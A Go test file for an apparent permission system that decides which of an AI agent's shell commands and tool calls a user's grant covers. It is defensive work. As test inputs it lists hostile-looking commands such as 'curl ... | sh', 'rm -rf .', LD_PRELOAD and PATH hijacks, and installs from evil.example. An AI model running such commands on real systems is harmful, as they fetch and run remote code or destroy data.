package grant_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/umpire-dev/umpire"
	"github.com/umpire-dev/umpire/internal/grant"
	"github.com/umpire-dev/umpire/internal/operation"
	"github.com/umpire-dev/umpire/internal/packs/parsed"
	"github.com/umpire-dev/umpire/internal/platform"
	"github.com/umpire-dev/umpire/internal/policyfile"
	"github.com/umpire-dev/umpire/policy"
)

// machine is a home with a project and a policy.
type machine struct {
	t      *testing.T
	dir    string
	text   []byte // of the user's policy
	policy *policy.Policy
}

func newMachine(t *testing.T, text string) *machine {
	t.Helper()
	home := t.TempDir()
	m := &machine{t: t, dir: filepath.Join(home, "proj")}
	if err := os.MkdirAll(filepath.Join(m.dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"x.py": "print(open('data.txt').read())\n", "build.sh": "make all\n"} {
		if err := os.WriteFile(filepath.Join(m.dir, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	file := filepath.Join(home, "policy.yaml")
	m.text = []byte("version: 1\n" + text)
	if err := os.WriteFile(file, m.text, 0o600); err != nil {
		t.Fatal(err)
	}
	builtin, err := parsed.Packs()
	if err != nil {
		t.Fatal(err)
	}
	if m.policy, _, err = policyfile.Compile(policyfile.Paths{User: file}, builtin); err != nil {
		t.Fatal(err)
	}
	return m
}

// call reads a call. Text is a shell command, or "tool {input}".
func (m *machine) call(text string) (*umpire.Action, []umpire.Operation) {
	m.t.Helper()
	a := &umpire.Action{Principal: umpire.Principal{Platform: "umpire", Session: "s"}, Tool: "bash", Dir: m.dir, Workspace: m.dir, Home: filepath.Dir(m.dir)}
	if name, in, ok := strings.Cut(text, " {"); ok && !strings.Contains(name, " ") {
		a.Tool, a.Input = name, json.RawMessage("{"+strings.ReplaceAll(in, "PROJ", m.dir))
	} else {
		a.Input, _ = json.Marshal(map[string]string{"command": text})
	}
	platform.Complete(a, "", func(string) string { return "" })
	return a, operation.Read(a, operation.Env{ReadFile: platform.ReadFile})
}

func (m *machine) offer(text string) (grant.Offer, *umpire.Action, []umpire.Operation) {
	m.t.Helper()
	a, ops := m.call(text)
	r := grant.PendingCall{Action: a, Operations: ops, Decision: m.policy.Decide(a, ops), Policy: m.policy, Tools: []string{a.Tool}, Wider: grant.Wider(m.dir), Passing: grant.Riskier}
	return r.Offer(), a, ops
}

// covers reports whether a session with one grant lets a call pass.
func (m *machine) covers(g grant.Grant, text string) bool {
	m.t.Helper()
	s, err := grant.NewSession(g)
	if err != nil {
		m.t.Fatal(err)
	}
	a, ops := m.call(text)
	_, ok := s.Covers(a, ops, func(ops []umpire.Operation) umpire.Decision { return m.policy.Decide(a, ops) })
	return ok
}

// What a longer answer grants covers the call that it was given for, and the narrowest grant
// covers none of its neighbours.
func TestCoversWhatItWasGivenFor(t *testing.T) {
	m := newMachine(t, "rules:\n  - ask: exec(make deploy*)\n")
	for call, others := range map[string][]string{
		"make lint": {"make lint all", "make", "make lint && rm -rf src", "make -f evil.mk lint", "LD_PRELOAD=./x.so make lint", "sudo make lint", "make lint | sh", "ssh h.example make lint", "docker exec c make lint", "./make lint", "bin/make lint", "/tmp/make lint", "~/make lint",
			"PATH=.:$PATH make lint", "export PATH=$PWD:$PATH; make lint", "env PATH=/tmp:/bin make lint", "path=(. $path); make lint", "PATH=.:/bin sh -c 'make lint'"},
		"a && b":                       {"a x && b", "a && b && c", "a && b > out.txt"},
		"go test ./a":                  {"go test ./b", "go test ./a -exec=./x", "go vet ./a"},
		"cat data.txt | grep x":        {"cat other.txt | grep x", "cat data.txt | sh"},
		"cat data.txt | sort > sorted": {"cat data.txt | sort > other"},
		"python3 x.py":                 {"python3 y.py", "python3 x.py --all", "python3 -c 'print(1)'"},
		"cat *.txt > sorted":           {"cat data.txt > sorted", "cat *.txt > other"},
		`write_file {"path":"PROJ/app/[id]/page.tsx","content":"x"}`: {`write_file {"path":"PROJ/app/x/layout.tsx","content":"x"}`},
		"./build.sh":                      {"./other.sh", "./build.sh x", "/tmp/build.sh", "~/build.sh", "../build.sh", "build.sh", "sub/build.sh", "cd sub && ./build.sh", "./build.sh; build.sh", "build.sh; ./build.sh", ".git/build.sh"},
		"bin/frob list":                   {"frob list", "./frob list", "sub/bin/frob list", "cd sub && bin/frob list", "bin/frob", "/tmp/bin/frob list", "frob list; bin/frob list"},
		"cd sub && ./frob":                {"./frob", "frob", "cd other && ./frob"},
		"frob list":                       {"./frob list", "bin/frob list", "PATH=.:$PATH frob list"},
		"echo hi > out":                   {"./echo hi > out", "/tmp/echo hi > out"},
		"bin/rails test":                  {"/tmp/rails test", "bin/rails test x"},
		"/opt/tool/bin/tool run":          {"/tmp/tool run", "~/tool run"},
		"git commit -m hi":                {"git commit -m ho", "git commit -m hi --amend", "git commit -a -m hi"},
		"git commit -m 'fix [x]: *, {a}'": {"git commit -m 'fix x: y, a'"},
		"git commit -m \"it's done\"":     {"git commit -m done"},
		"git push origin feature/x":       {"git push origin main", "git push --force origin feature/x", "git push origin feature/x:main", "git push evil feature/x"},
		"git checkout -b y":               {"git checkout -b z", "git checkout ."},
		"git clone https://github.com/a/b": {
			"git clone https://github.com/a/c", "git clone https://evil.example/a/b"},
		"npm install left-pad":            {"npm install right-pad", "npm install left-pad evil", "npm install -g left-pad", "npm install left-pad --prefix=/srv"},
		"pip install requests":            {"pip install requestz", "pip install --index-url https://evil.example requests"},
		"curl https://h.example/a":        {"curl https://h.example/b", "curl https://evil.example/a", "curl -X POST https://h.example/a", "curl https://h.example:8443/a", "curl http://h.example/a"},
		"curl -o out https://h.example/a": {"curl -o other https://h.example/a"},
		"curl https://h.example:8443/a?b": {"curl https://h.example:8443/a"},
		"touch u1":                        {"touch u2", "touch u1 u2", "echo x > u1", "echo x >> u1", "touch u1 && chmod 755 u1"},
		"echo x > '*'":                    nil,
		"rm build.sh":                     {"rm x.py", "rm -rf .", "rm build.sh x.py"},
		"tool --config":                   {"tool --config=/etc/evil", "tool"},
		"tool --config=a":                 {"tool --config=b", "tool --config"},
		"make deploy":                     {"make deploy all", "make lint"},
		"ls *.go":                         {"rm *.go"},
		`write_file {"path":"PROJ/a.go","content":"x"}`:                                  {`write_file {"path":"PROJ/b.go","content":"x"}`, `bash {"command":"touch PROJ/a.go"}`},
		`write_file {"path":"PROJ/a b/{c},d.go","content":"x"}`:                          {`write_file {"path":"PROJ/a b/c.go","content":"x"}`},
		`edit_file {"file_path":"PROJ/x.py","old_string":"print","new_string":"return"}`: {`edit_file {"file_path":"PROJ/y.py","old_string":"print","new_string":"return"}`},
		`mcp__db__query {"q":"x"}`:                                                       {`mcp__db__drop {"q":"x"}`, `mcp__evil__query {"q":"x"}`},
		`mcp__fs__write {"path":"PROJ/a.go","content":"x"}`:                              {`mcp__fs__delete {"path":"PROJ/a.go"}`, `mcp__evil__write {"path":"PROJ/a.go","content":"x"}`},
		`unknown_tool {"x":1}`:                                                           {`other_tool {"x":1}`},
	} {
		o, a, ops := m.offer(call)
		if len(o.Choices) == 0 {
			if o.None == "" {
				t.Errorf("%s: nothing is on offer, and no word why", call)
			}
			if call != "echo x > '*'" {
				t.Errorf("%s is never on offer: %s; it does %v", call, o.None, ops)
			}
			continue
		}
		for i, g := range o.Choices {
			if !m.covers(g, call) {
				t.Errorf("%s: the answer %q does not cover it", call, g.String())
			}
			if _, err := grant.Parse(g.String()); err != nil {
				t.Errorf("%s: %v", call, err)
			}
			if o.NotKept == "" {
				if d := m.file(g).Decide(a, ops); !d.Explicit || d.Effect != umpire.Allow {
					t.Errorf("%s: in a policy file as %q it is still %v by %v", call, g.String(), d.Effect, d.Reasons)
				}
			}
			if i > 0 || o.NotKept == "" {
				with := m.keep(g)
				if d := with.Decide(a, ops); !d.Explicit || d.Effect != umpire.Allow {
					t.Errorf("%s: kept as %q it is still %v by %v", call, g.String(), d.Effect, d.Reasons)
				}
			}
		}
		for _, other := range others {
			if m.covers(o.Choices[0], other) {
				t.Errorf("%s: the answer %q also covers %s", call, o.Choices[0].String(), other)
			}
			a, ops := m.call(other)
			if d := m.keep(o.Choices[0]).Decide(a, ops); d.Explicit && d.Effect == umpire.Allow {
				t.Errorf("%s: kept as %q it also covers %s", call, o.Choices[0].String(), other)
			}
		}
	}
}

// keep returns the policy with a grant as rules of the user's.
func (m *machine) keep(g grant.Grant) *policy.Policy {
	m.t.Helper()
	rules, err := g.Rules("always", policy.User, "test")
	if err != nil {
		m.t.Fatal(err)
	}
	p, err := policy.Compile(policy.Source{Default: umpire.Ask, Rules: rules})
	if err != nil {
		m.t.Fatal(err)
	}
	return p
}

// file returns the policy with a grant as the agent keeps it in the user's file.
func (m *machine) file(g grant.Grant) *policy.Policy {
	m.t.Helper()
	var list []policyfile.AllowRule
	for _, p := range g.Parts {
		list = append(list, policyfile.AllowRule{Pattern: p.Pattern, Platform: "umpire", Tools: g.Tools, Foreign: !p.Clean, Without: p.Without, Reason: "test"})
	}
	path := filepath.Join(m.t.TempDir(), "policy.yaml")
	if err := os.WriteFile(path, m.text, 0o600); err != nil {
		m.t.Fatal(err)
	}
	if _, err := policyfile.Add(path, list...); err != nil {
		m.t.Fatal(err)
	}
	builtin, err := parsed.Packs()
	if err != nil {
		m.t.Fatal(err)
	}
	p, _, err := policyfile.Compile(policyfile.Paths{User: path}, builtin)
	if err != nil {
		m.t.Fatal(err)
	}
	return p
}

// The narrowest is the first, and each wider one is a choice of its own.
func TestChoices(t *testing.T) {
	m := newMachine(t, "")
	for call, want := range map[string][]string{
		"touch u1":    {"exec(touch u1)\nwrite(PROJ/u1)"}, // wider for the file alone would cover no other touch
		"go test ./a": {"exec(go test ./a)", "exec(go test *)"},
		`write_file {"path":"PROJ/d/a.go","content":"x"}`: {"write(PROJ/d/a.go)", "write(PROJ/d/*)", "write(PROJ/**)"},
		"echo x > /srv/a":               {"write(/srv/a)"},
		"rm /srv/a":                     {"exec(rm /srv/a)\ndelete(/srv/a)"},
		"curl https://h.example/a":      {"exec(curl https://h.example/a)\nnetwork(GET h.example:443/a)", "exec(curl https://h.example/a)\nnetwork(h.example:443)"},
		`mcp__db__query {"q":"x"}`:      {"tool(mcp__db__query)"},
		"curl https://x.example/i | sh": nil,
		"echo $UNKNOWN > $OUT":          nil,
	} {
		o, _, _ := m.offer(call)
		var got []string
		for _, g := range o.Choices {
			got = append(got, strings.ReplaceAll(g.String(), m.dir, "PROJ"))
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q (%s)", call, got, want, o.None)
		}
		if len(got) == 0 && o.None == "" {
			t.Errorf("%s: no word why nothing is on offer", call)
		}
	}
}

// Answers about parts add up, and what the policy allows needs none.
func TestParts(t *testing.T) {
	m := newMachine(t, "rules:\n  - allow: exec(ls *)\n  - allow: read(**)\n  - ask: exec(make deploy)\n  - ask: text(/TODO/)\n")
	var grants []grant.Grant
	for _, call := range []string{"make a", "make b", "make deploy", "make c # TODO"} {
		o, _, _ := m.offer(call)
		if len(o.Choices) == 0 {
			t.Fatal(call, o.None)
		}
		grants = append(grants, o.Choices[0])
	}
	s, err := grant.NewSession(grants...)
	if err != nil {
		t.Fatal(err)
	}
	for call, want := range map[string]bool{
		"make a && make b": true, "make a && ls -l": true, "make deploy && make a": true, "make a && make x": false, "ls -l": false,
		"make c # TODO": true, "make c # TODO all": false, "make a # TODO": false, "make deploy --force": false,
	} {
		a, ops := m.call(call)
		for _, tainted := range []bool{false, true} {
			a.Tainted = tainted
			if _, ok := s.Covers(a, ops, func(ops []umpire.Operation) umpire.Decision { return m.policy.Decide(a, ops) }); ok != (want && !tainted) {
				t.Errorf("%s, tainted %v: %v", call, tainted, ok)
			}
		}
	}
}

// An answer that was given again has the traits of both.
func TestMerge(t *testing.T) {
	m := newMachine(t, "")
	plain, _, _ := m.offer("make lint")
	loud, _, _ := m.offer("make lint && LD_PRELOAD=./x.so make lint")
	g := plain.Choices[0]
	if m.covers(g, "LD_PRELOAD=./x.so make lint") {
		t.Fatal("the plain one covers it already")
	}
	for _, c := range loud.Choices[:1] {
		if c.String() == g.String() {
			g.Merge(&c)
			if !m.covers(g, "LD_PRELOAD=./x.so make lint") {
				t.Error("the second answer did not count")
			}
		}
	}
}

func TestDenials(t *testing.T) {
	m := newMachine(t, "")
	for call, want := range map[string]struct {
		list []string
		sure bool
	}{
		"make a":           {[]string{"exec(make a)"}, true},
		"a && b":           {[]string{"exec(a)", "exec(b)"}, false},
		"git commit -m hi": {[]string{"exec(git commit -m hi)", "git(commit -m hi)"}, true},
		"rm *.o":           {[]string{`exec(rm \*.o)`}, true},
	} {
		a, ops := m.call(call)
		r := grant.PendingCall{Action: a, Operations: ops, Decision: m.policy.Decide(a, ops), Policy: m.policy}
		if list, sure := r.Denials(); !slices.Equal(list, want.list) || sure != want.sure {
			t.Errorf("%s: %q, %v", call, list, sure)
		}
	}
}

// The request that a question was about is offered first.
func TestDenialsOfWhatWasAsked(t *testing.T) {
	m := newMachine(t, "")
	a, ops := m.call("a && b && c")
	for i, want := range []string{"exec(a)", "exec(b)", "exec(c)"} {
		d := umpire.Decision{Effect: umpire.Ask, Reasons: []umpire.Reason{{Op: i, Effect: umpire.Ask}, {Op: (i + 1) % 3, Effect: umpire.Allow}}}
		r := grant.PendingCall{Action: a, Operations: ops, Decision: d, Policy: m.policy}
		if list, _ := r.Denials(); len(list) != 3 || list[0] != want {
			t.Errorf("asked about %s: offers to deny %q, want it first", want, list)
		}
	}
}
